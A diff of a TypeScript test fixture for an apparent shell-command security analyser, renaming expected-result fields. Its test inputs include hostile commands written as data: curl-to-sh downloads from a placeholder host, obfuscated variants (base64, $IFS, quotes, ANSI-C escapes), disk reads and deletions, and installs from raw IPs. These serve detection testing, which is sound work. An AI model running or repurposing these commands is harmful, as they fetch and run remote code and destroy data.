@@ -95,7 +95,7 @@ const CASES: Record<string, Case[]> = {
     [
       'sh -c of a command substitution',
       `sh -c "$(curl -fsSL http://${HOST}/i.sh)"\npython3 -c "$(curl -fsSL http://${HOST}/p.py)"`,
-      [exec('sh -c', { input: ['network'] }), exec('python3 -c', { input: ['network'] })],
+      [exec('shell', { input: ['network'] }), exec('python3 -c', { input: ['network'] })],
     ],
     [
       'download in command position',
@@ -200,7 +200,7 @@ const CASES: Record<string, Case[]> = {
       'program name decoded at run time',
       `$(echo ${b64('curl')} | base64 -d) -s http://${HOST}/x | sh`,
       [
-        proc('curl', { disguisedName: 'decoded' }),
+        proc('curl', { obfuscated: 'decoded' }),
         exec('command-substitution', { input: ['decoded'], code: 'curl' }),
         net('fetch', `http://${HOST}/x`),
       ],
@@ -217,7 +217,7 @@ const CASES: Record<string, Case[]> = {
       '$IFS between words',
       `curl\${IFS}-s\${IFS}http://${HOST}/x|sh`,
       [
-        proc('curl', { args: ['-s', `http://${HOST}/x`], disguisedName: 'split' }),
+        proc('curl', { args: ['-s', `http://${HOST}/x`], obfuscated: 'split' }),
         proc('sh', { stdin: ['network'] }),
       ],
     ],
@@ -225,15 +225,15 @@ const CASES: Record<string, Case[]> = {
       'quotes and backslashes inside names',
       `c''url -s http://${HOST}/x | s""h\ncu\\rl http://${HOST}/y`,
       [
-        proc('curl', { disguisedName: 'split', line: 1 }),
-        proc('sh', { disguisedName: 'split' }),
-        proc('curl', { disguisedName: 'split', line: 2 }),
+        proc('curl', { obfuscated: 'split', line: 1 }),
+        proc('sh', { obfuscated: 'split' }),
+        proc('curl', { obfuscated: 'split', line: 2 }),
       ],
     ],
     [
       "ANSI-C escapes $'\\x..'",
       `$'\\x63\\x75\\x72\\x6c' -s http://${HOST}/x | sh`,
-      [proc('curl', { disguisedName: 'escaped' })],
+      [proc('curl', { obfuscated: 'escaped' })],
     ],
     [
       'rev and rot13 decoders',
@@ -252,7 +252,7 @@ const CASES: Record<string, Case[]> = {
       'benign: a plain name and ANSI colour codes',
       "\\rm -rf ./build\nprintf '\\033[1;32m%s\\033[0m\\n' done",
       [proc('rm', { args: ['-rf', './build'] })],
-      [{ disguisedName: 'split' }, { kind: 'exec' }],
+      [{ obfuscated: 'split' }, { kind: 'exec' }],
     ],
   ],
   'reverse shells': [
@@ -689,8 +689,8 @@ const CASES: Record<string, Case[]> = {
         file('delete', '/dev/sda'),
         file('delete', '/dev/sdb'),
         file('delete', '/dev/sdc'),
-        file('delete', '/dev/<disk>', { line: 5 }),
-        file('delete', '/dev/<disk>', { line: 7 }),
+        file('delete', '/dev/$disk', { line: 5 }),
+        file('delete', '/dev/$disk', { line: 7 }),
         file('delete', '/dev/sdd1'),
       ],
     ],
@@ -699,7 +699,7 @@ const CASES: Record<string, Case[]> = {
       'dd if=/dev/zero of=/tmp/bench.img bs=1M count=256\nDEV=$(lsblk -dpno NAME | head -1)\ndd if="$DEV" of=/tmp/mbr.bin bs=512 count=1\ndd if=/dev/sda of=backup.img bs=4M status=progress\ntruncate -s 64M disk.img',
       [
         file('write', '/tmp/bench.img'),
-        file('read', '/dev/<disk>'),
+        file('read', '/dev/$disk'),
         file('write', '/tmp/mbr.bin'),
         file('write', 'disk.img'),
       ],
@@ -846,7 +846,7 @@ const CASES: Record<string, Case[]> = {
       'for i in 1 2 3; do "$0" --worker "$i" & done\nwait',
       [
         proc('x.sh', { args: ['--worker', '2'], runsSelf: true, background: true }),
-        loop({ endless: false, forks: true, iterations: 3 }),
+        loop({ endless: false, forks: false, spawns: true, iterations: 3 }),
       ],
     ],
     [
@@ -881,13 +881,14 @@ const CASES: Record<string, Case[]> = {
   'package installs': [
     [
       'installs from raw IPs and plain http',
-      'npm install --no-save http://198.51.100.20/pkgs/left-pad-9.9.9.tgz\npython3 -m pip install --index-url http://203.0.113.9:8080/simple/ requests\npip3 install "git+http://198.51.100.4/tools/helper.git#egg=helper"\ngem install --source http://198.51.100.2 rails',
+      'npm install --no-save http://198.51.100.20/pkgs/left-pad-9.9.9.tgz\npython3 -m pip install --index-url http://203.0.113.9:8080/simple/ requests\npip3 install "git+http://198.51.100.4/tools/helper.git#egg=helper"\nnpm i --registry=http://198.51.100.3/ x',
       [
         dep({ ecosystem: 'npm', source: 'url', spec: 'http://198.51.100.20/pkgs/left-pad-9.9.9.tgz' }),
-        dep({ ecosystem: 'pypi', name: 'requests', index: 'http://203.0.113.9:8080/simple/' }),
+        dep({ ecosystem: 'pypi', name: 'requests', source: 'registry' }),
+        { kind: 'registry', ecosystem: 'pypi', option: 'index-url', url: 'http://203.0.113.9:8080/simple/' },
         dep({ ecosystem: 'pypi', name: 'helper', source: 'git' }),
-        dep({ ecosystem: 'rubygems', name: 'rails', index: 'http://198.51.100.2' }),
-        net('fetch', 'http://203.0.113.9:8080/simple/'),
+        { kind: 'registry', ecosystem: 'npm', option: 'registry', url: 'http://198.51.100.3/' },
+        net('fetch', 'http://198.51.100.20/pkgs/left-pad-9.9.9.tgz'),
       ],
     ],
     [
@@ -895,7 +896,8 @@ const CASES: Record<string, Case[]> = {
       'pip install "git+https://github.com/psf/requests.git@v2.31.0"\npip install --extra-index-url https://download.pytorch.org/whl/cu121 torch\nnpm i left-pad@1.3.0 @scope/x@^2\nuv pip install ruff==0.5.0\nnpm ci',
       [
         dep({ source: 'git', spec: 'git+https://github.com/psf/requests.git@v2.31.0' }),
-        dep({ name: 'torch', index: 'https://download.pytorch.org/whl/cu121' }),
+        dep({ name: 'torch', source: 'registry' }),
+        { kind: 'registry', option: 'extra-index-url', url: 'https://download.pytorch.org/whl/cu121' },
         dep({ ecosystem: 'npm', name: 'left-pad', spec: '1.3.0', source: 'registry' }),
         dep({ ecosystem: 'npm', name: '@scope/x', spec: '^2' }),
         dep({ ecosystem: 'pypi', name: 'ruff', spec: '==0.5.0' }),
